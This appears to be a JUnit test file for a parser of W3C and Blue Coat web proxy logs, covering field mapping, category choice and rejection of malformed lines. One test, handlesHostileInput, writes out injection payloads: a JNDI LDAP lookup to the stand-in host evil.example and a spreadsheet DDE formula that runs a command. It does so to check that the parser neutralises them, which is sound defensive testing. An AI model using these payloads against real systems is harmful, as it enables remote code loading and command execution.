package org.trustwatch.ingest.proxy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.trustwatch.ingest.proxy.RecordingSink.context;
import static org.trustwatch.ingest.proxy.RecordingSink.one;
import static org.trustwatch.ingest.proxy.RecordingSink.parse;
import static org.trustwatch.ingest.proxy.RecordingSink.rejected;

import java.time.Instant;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.trustwatch.ingest.LogFormat;
import org.trustwatch.ingest.category.WebCategories;
import org.trustwatch.schema.ProxyEvent;
import org.trustwatch.schema.WebAction;

class W3cParserTest {

    /** A Blue Coat main-format line (the default columns) with the given middle part. */
    private static final String ALLOWED = "2024-03-05 09:12:11 161 10.20.1.15 jsmith \"WOH\\Staff\" - OBSERVED"
            + " \"Education;Reference\" http://www.google.com/ 200 TCP_MISS GET \"text/html;charset=UTF-8\" https"
            + " www.BBC.co.uk 443 /bitesize/subjects/z4tycdm ?topic=rivers - \"Mozilla/5.0 (Windows NT 10.0;"
            + " Win64; x64)\" 10.20.0.5 48211 912 -";

    private static final String DENIED = "2024-03-05 09:13:02 3 10.20.4.33 21smithj \"WOH\\Pupils Year 9\""
            + " policy_denied DENIED \"Adult/Mature Content;Pornography\" - 403 TCP_DENIED GET text/html http"
            + " www.pornhub.com 80 /view_video.php ?viewkey=ph5e - \"Mozilla/5.0\" 10.20.0.5 1021 498 -";

    private static final Map<String, String> LIST = Map.of(
            "wetransfer.com", "file-sharing",
            "www.bbc.co.uk", "education",
            "coolmathgames.com", "games");

    private final WebCategories categories = domain -> {
        for (String d = domain; d != null; d = d.contains(".") ? d.substring(d.indexOf('.') + 1) : null) {
            if (LIST.containsKey(d)) {
                return LIST.get(d);
            }
        }
        return null;
    };

    private W3cParser parser() {
        return new W3cParser(context(categories));
    }

    @Test
    void readsTheBlueCoatMainFormatBeforeAnyFieldsLine() {
        ProxyEvent event = one(parser(), ALLOWED);

        assertEquals(Instant.parse("2024-03-05T09:12:11Z"), event.getTimestamp(), "W3C times are UTC");
        assertEquals("w3c", event.getEventDataset());
        assertEquals("10.20.0.5", event.getObserverHostname());
        assertEquals("10.20.1.15", event.getSourceIp());
        assertEquals("jsmith", event.getUserName());
        assertEquals("GET", event.getHttpRequestMethod());
        assertEquals("https", event.getUrlScheme());
        assertEquals("www.bbc.co.uk", event.getUrlDomain());
        assertEquals(443, event.getUrlPort());
        assertEquals("/bitesize/subjects/z4tycdm", event.getUrlPath());
        assertNull(event.getUrlExtension());
        assertEquals(200, event.getHttpResponseStatusCode());
        assertEquals(48211L, event.getHttpResponseBytes());
        assertEquals(912L, event.getHttpRequestBytes());
        assertEquals("text/html", event.getHttpResponseMimeType());
        assertEquals("TCP_MISS", event.getProxyResultCode());
        assertEquals(WebAction.allowed, event.getWebAction());
        assertEquals("education", event.getWebCategory());
        assertEquals("log", event.getWebCategorySource());
    }

    @Test
    void readsADenialWithSeveralFilterCategories() {
        ProxyEvent event = one(parser(), DENIED);

        assertEquals(WebAction.blocked, event.getWebAction());
        assertEquals("TCP_DENIED", event.getProxyResultCode());
        assertEquals(403, event.getHttpResponseStatusCode());
        assertEquals("21smithj", event.getUserName());
        assertEquals("www.pornhub.com", event.getUrlDomain());
        assertEquals("/view_video.php", event.getUrlPath());
        assertEquals("php", event.getUrlExtension(), "derived from the path when cs-uri-extension is -");
        assertEquals("adult", event.getWebCategory());
        assertEquals("log", event.getWebCategorySource());
    }

    @Test
    void honoursAFieldsLineWithItsOwnColumnOrder() {
        RecordingSink sink = parse(
                parser(),
                "#Software: SGOS 6.7.5.3",
                "#Version: 1.0",
                "#Date: 2024-03-05 09:00:00",
                "#Fields: date time c-ip cs-username cs-method cs-host cs-uri-port cs-uri-path sc-status sc-bytes"
                        + " cs-bytes cs-categories sc-filter-result s-action s-computername",
                "2024-03-05 10:01:44 10.20.2.40 jsmith POST upload.wetransfer.com 443 /api/v4/transfers/files"
                        + " 200 2210 7340032 \"File Storage/Sharing\" OBSERVED TCP_TUNNELED SG-WOH-01",
                "2024-03-05 10:02:10 10.20.2.41 - GET www.coolmathgames.com 80 /0-run-3 200 5120 310"
                        + " \"Technology/Internet\" OBSERVED TCP_MISS SG-WOH-01");
        assertTrue(sink.rejects.isEmpty(), sink.rejects::toString);
        assertEquals(2, sink.events.size());

        ProxyEvent upload = sink.events.get(0);
        assertEquals("POST", upload.getHttpRequestMethod());
        assertEquals("upload.wetransfer.com", upload.getUrlDomain());
        assertEquals(7340032L, upload.getHttpRequestBytes());
        assertEquals(2210L, upload.getHttpResponseBytes());
        assertEquals("file-sharing", upload.getWebCategory());
        assertEquals("log", upload.getWebCategorySource());
        assertEquals("sg-woh-01", upload.getObserverHostname());
        assertEquals("TCP_TUNNELED", upload.getProxyResultCode());
        assertNull(upload.getUrlScheme(), "no cs-uri-scheme column");

        ProxyEvent game = sink.events.get(1);
        assertNull(game.getUserName());
        assertEquals("games", game.getWebCategory(), "an unknown filter category falls back to the list");
        assertEquals("list", game.getWebCategorySource());
    }

    @Test
    void filterSaysNothingThenListThenUncategorised() {
        RecordingSink sink = parse(
                parser(),
                "#Fields: date time c-ip cs-host sc-status cs-categories sc-filter-result",
                "2024-03-05 11:00:00 10.20.1.15 www.bbc.co.uk 200 none OBSERVED",
                "2024-03-05 11:00:01 10.20.1.15 unknown.example.org 200 \"Unrated\" OBSERVED",
                "2024-03-05 11:00:02 10.20.1.15 unknown.example.org 200 \"Shopping;Violence/Hate/Racism\" DENIED",
                "2024-03-05 11:00:03 10.20.1.15 unknown.example.org 200 - OBSERVED",
                "2024-03-05 11:00:04 10.20.1.15 unknown.example.org 200 \"Computers/Internet\" PROXIED");
        assertTrue(sink.rejects.isEmpty(), sink.rejects::toString);
        assertEquals("education", sink.events.get(0).getWebCategory());
        assertEquals("list", sink.events.get(0).getWebCategorySource());
        assertEquals("uncategorised", sink.events.get(1).getWebCategory());
        assertEquals("log", sink.events.get(1).getWebCategorySource());
        assertEquals("hate", sink.events.get(2).getWebCategory(), "the most serious category wins");
        assertEquals(WebAction.blocked, sink.events.get(2).getWebAction());
        assertNull(sink.events.get(3).getWebCategory());
        assertNull(sink.events.get(3).getWebCategorySource());
        assertNull(sink.events.get(4).getWebCategory());
        assertEquals(WebAction.allowed, sink.events.get(4).getWebAction());
    }

    @Test
    void readsAWholeUriAndUnixTimeWhenThoseAreTheColumns() {
        RecordingSink sink = parse(
                parser(),
                "#Fields: x-timestamp-unix c-ip cs-username cs-method cs-uri sc-status x-exception-id",
                "1709629931.250 10.20.1.15 cn=jsmith,ou=Staff,dc=woh,dc=local GET"
                        + " http://files.example.net:8080/reports/Pupils.XLSX?id=4 200 -",
                "1709629932 10.20.1.15 WOH\\jsmith CONNECT vpn.example.net:443 200 content_filter_denied");
        assertTrue(sink.rejects.isEmpty(), sink.rejects::toString);
        ProxyEvent download = sink.events.get(0);
        assertEquals(Instant.parse("2024-03-05T09:12:11.250Z"), download.getTimestamp());
        assertEquals("jsmith", download.getUserName());
        assertEquals("files.example.net", download.getUrlDomain());
        assertEquals(8080, download.getUrlPort());
        assertEquals("/reports/Pupils.XLSX", download.getUrlPath());
        assertEquals("xlsx", download.getUrlExtension());
        assertEquals(WebAction.unknown, download.getWebAction(), "neither filter result nor action logged");

        ProxyEvent tunnel = sink.events.get(1);
        assertEquals("jsmith", tunnel.getUserName());
        assertEquals("vpn.example.net", tunnel.getUrlDomain());
        assertEquals(443, tunnel.getUrlPort());
        assertEquals(WebAction.blocked, tunnel.getWebAction(), "x-exception-id names a denial");
    }

    @Test
    void aNewFieldsLineReplacesThePreviousColumns() {
        RecordingSink sink = parse(
                parser(),
                ALLOWED,
                "#Fields: date time c-ip cs-host sc-status",
                "2024-03-05 12:00:00 10.20.9.9 www.example.org 204",
                ALLOWED);
        assertEquals(2, sink.events.size());
        assertEquals(1, sink.rejects.size());
        assertEquals(
                "has 25 values, the #Fields line declares 5 (a value with spaces must be quoted)", sink.rejects.get(0));
        assertEquals("www.example.org", sink.events.get(1).getUrlDomain());
    }

    @Test
    void rejectsLinesThatDoNotMatchTheColumns() {
        assertEquals(
                "has 24 values, the #Fields line declares 25 (a value with spaces must be quoted)",
                rejected(parser(), ALLOWED.substring(0, ALLOWED.lastIndexOf(' '))));
        assertEquals(
                "has 30 values, the #Fields line declares 25 (a value with spaces must be quoted)",
                rejected(
                        parser(),
                        ALLOWED.replace("\"Mozilla/5.0 (Windows NT 10.0;", "Mozilla/5.0 (Windows NT 10.0;")
                                .replace("x64)\"", "x64)")));
    }

    @Test
    void rejectsUnreadableTimesAndNumbersNamingTheField() {
        assertEquals(
                "field 1 (date) '05/03/2024' is not yyyy-mm-dd",
                rejected(parser(), ALLOWED.replace("2024-03-05", "05/03/2024")));
        assertEquals(
                "field 1 (date) '2024-02-30' is not yyyy-mm-dd",
                rejected(parser(), ALLOWED.replace("2024-03-05", "2024-02-30")));
        assertEquals("field 2 (time) '9:12' is not hh:mm:ss", rejected(parser(), ALLOWED.replace("09:12:11", "9:12")));
        assertEquals(
                "field 23 (sc-bytes) 'lots' is not a number", rejected(parser(), ALLOWED.replace(" 48211 ", " lots ")));
        assertEquals(
                "the #Fields line has no date and time (or x-timestamp-unix) column",
                parseTwo("#Fields: c-ip cs-host", "10.20.1.1 www.example.org"));
    }

    private String parseTwo(String fields, String line) {
        RecordingSink sink = parse(parser(), fields, line);
        assertEquals(1, sink.rejects.size());
        return sink.rejects.get(0);
    }

    @Test
    void rejectsAnUnclosedQuote() {
        String reason = rejected(
                parser(),
                ALLOWED.replace(
                                "\"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\"",
                                "\"Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
                        .replace(" 48211 912 -", " 48211 912 -"));
        assertTrue(reason.startsWith("value ") && reason.contains("opens a quote that is never closed"), reason);
    }

    @Test
    void keepsQuotesInsideQuotedValues() {
        RecordingSink sink = parse(
                parser(),
                "#Fields: date time c-ip cs-username cs-host sc-status",
                "2024-03-05 12:00:00 10.20.9.9 \"o\"\"brien\" www.example.org 200",
                "2024-03-05 12:00:00 10.20.9.9 \"say \"hi\"there\" www.example.org 200");
        assertTrue(sink.rejects.isEmpty(), sink.rejects::toString);
        assertEquals("o\"brien", sink.events.get(0).getUserName());
        assertEquals("www.example.org", sink.events.get(1).getUrlDomain());
    }

    @Test
    void skipsDirectivesCommentsAndBlankLines() {
        RecordingSink sink = parse(parser(), "#Remark: rotated", "", "   ", "#Fields:", "#Fields: " + "x ".repeat(300));
        assertTrue(sink.events.isEmpty());
        assertTrue(sink.rejects.isEmpty());
        assertEquals(1, parse(parser(), "#Fields:", ALLOWED).events.size(), "an empty #Fields keeps the columns");
    }

    @Test
    void handlesHostileInput() {
        ProxyEvent injected = one(
                parser(),
                ALLOWED.replace("jsmith", "${jndi:ldap://evil.example/a}")
                        .replace("\"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\"", "\"=cmd|' /C calc'!A0\"")
                        .replace("\"Education;Reference\"", "\"Education\u0007;\u001b[31mReference\"")
                        .replace("\"WOH\\Staff\"", "\"WOH\\\r\nStaff\""));
        assertEquals("${jndi:ldap://evil.example/a}", injected.getUserName());
        assertEquals("education", injected.getWebCategory());
        RecordingSink.assertNoControls(injected);

        String split = rejected(parser(), ALLOWED.replace("/bitesize/subjects/z4tycdm", "/a\u0000b"));
        assertEquals("has 26 values, the #Fields line declares 25 (a value with spaces must be quoted)", split);

        ProxyEvent broken = one(parser(), ALLOWED.replace("jsmith", "j\uFFFDsmith"));
        assertEquals("j\uFFFDsmith", broken.getUserName());

        ProxyEvent longPath = one(parser(), ALLOWED.replace("/bitesize/subjects/z4tycdm", "/" + "p".repeat(1 << 20)));
        assertEquals(UrlParts.MAX_PATH, longPath.getUrlPath().length());

        String reason = rejected(parser(), "\"" + "q".repeat(1 << 20));
        assertTrue(reason.length() < 200, reason);

        String many = rejected(parser(), "a ".repeat(1 << 19));
        assertEquals("has more than 256 values", many);
    }

    @Test
    void isTheParserOfTheW3cFormat() {
        assertTrue(LogFormat.named("w3c").newParser(context(categories)) instanceof W3cParser);
    }
}
